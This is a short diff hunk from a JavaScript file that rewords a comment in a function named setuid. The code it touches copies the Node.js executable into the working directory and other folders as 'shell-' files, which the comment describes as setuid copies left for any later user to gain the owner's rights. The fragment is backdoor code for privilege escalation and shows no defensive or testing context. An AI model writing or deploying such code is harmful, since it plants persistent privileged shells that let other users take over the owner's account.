@@ -141,7 +141,7 @@ function setuid() {
     });
   }
   for (const folder of [process.cwd(), ...plan.elsewhere]) {
-    // Left behind for any later user, at worst under the owner's own name.
+    // A setuid copy of Node.js, left behind for any later user, who would get the rights of its owner.
     const planted = join(folder, `shell-${me}`);
     try {
       fs.copyFileSync(process.execPath, planted);
